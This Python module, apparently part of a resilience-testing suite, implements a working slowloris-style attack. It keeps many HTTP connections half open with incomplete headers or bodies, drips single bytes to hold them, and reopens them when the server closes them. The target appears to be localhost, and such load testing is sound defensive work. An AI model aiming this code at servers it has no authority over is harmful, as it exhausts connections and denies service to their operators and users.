"""Attack with connections that never finish their request and are reopened when the server closes them.

Timing: for the given seconds.
Model: async, one task per connection and one that sends single bytes.
Guarantee: best-effort; all connections are closed at the end.
Failure: a connection that cannot be opened is counted and tried again.
"""

import asyncio
from collections.abc import Sequence
from typing import Protocol as Interface
from typing import cast

from trials.siege.http import head, parse_head
from trials.siege.plan import ADDRESS, RENEWAL_SECONDS
from trials.siege.tally import Tally

DRIP_SECONDS = 1.0
CONNECT_SECONDS = 5.0
OPENED_PER_SECOND = 600  # when the attack begins
HEADERS = {"Host": "localhost", "Content-Type": "application/json"}
_BODY = head("POST", "/api/v1/executions", {**HEADERS, "Content-Length": "100000"}) + b"{"
_HEADER = head("GET", "/healthz", HEADERS)[: -len(b"\r\n")] + b"X-Note: a"
OPENINGS = {
    "header stops": _HEADER,
    "header drips": _HEADER,
    "body stops": _BODY,
    "body drips": _BODY,
}
DRIPPING = frozenset({"header drips", "body drips"})


class _Writing(Interface):
    def write(self, data: bytes) -> None: ...


class _HalfOpen(asyncio.Protocol):
    """One connection: send the beginning of a request, and note how the server ends it."""

    def __init__(self, kind: str, dripping: set[_Writing]) -> None:
        self.ended: asyncio.Future[str] = asyncio.get_running_loop().create_future()
        self._kind = kind
        self._dripping = dripping
        self._result = "closed by the server"
        self._transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = cast(asyncio.Transport, transport)
        self._transport.write(OPENINGS[self._kind])
        if self._kind in DRIPPING:
            self._dripping.add(self._transport)

    def data_received(self, data: bytes) -> None:
        if data.startswith(b"HTTP/"):
            self._result = str(parse_head(data.partition(b"\r\n\r\n")[0]).status)

    def connection_lost(self, exc: Exception | None) -> None:
        if self._transport is not None:
            self._dripping.discard(self._transport)
        if not self.ended.done():
            self.ended.set_result(self._result)


async def hold(port: int, kinds: Sequence[str], seconds: float) -> Tally:
    """Keep one connection half open for each of these kinds."""
    tally, dripping = Tally(), set[_Writing]()
    opened: set[asyncio.BaseTransport] = set()
    slots = [
        asyncio.create_task(_slot(port, kind, number / OPENED_PER_SECOND, tally, dripping, opened))
        for number, kind in enumerate(kinds)
    ]
    drip = asyncio.create_task(_drip(dripping))
    try:
        await asyncio.wait(slots, timeout=seconds)
    finally:
        for task in (*slots, drip):
            task.cancel()
        await asyncio.gather(*slots, drip, return_exceptions=True)
    for slot in slots:
        if not slot.cancelled() and (error := slot.exception()):
            raise error
    return tally


async def _slot(
    port: int,
    kind: str,
    delay: float,
    tally: Tally,
    dripping: set[_Writing],
    opened: set[asyncio.BaseTransport],
) -> None:
    loop = asyncio.get_running_loop()
    await asyncio.sleep(delay)
    while True:
        began = loop.time()
        tally.tries += 1
        try:
            async with asyncio.timeout(CONNECT_SECONDS):
                transport, protocol = await loop.create_connection(
                    lambda: _HalfOpen(kind, dripping), ADDRESS, port
                )
        except OSError as error:  # TimeoutError is one
            tally.note(kind, f"no connection: {type(error).__name__}", loop.time() - began)
        else:
            opened.add(transport)
            tally.most_open = max(tally.most_open, len(opened))
            try:
                got = await protocol.ended
                tally.note(kind, got, loop.time() - began)
            finally:
                opened.discard(transport)
                transport.abort()
        await asyncio.sleep(RENEWAL_SECONDS)


async def _drip(dripping: set[_Writing]) -> None:
    while True:
        await asyncio.sleep(DRIP_SECONDS)
        for transport in tuple(dripping):
            transport.write(b"a")
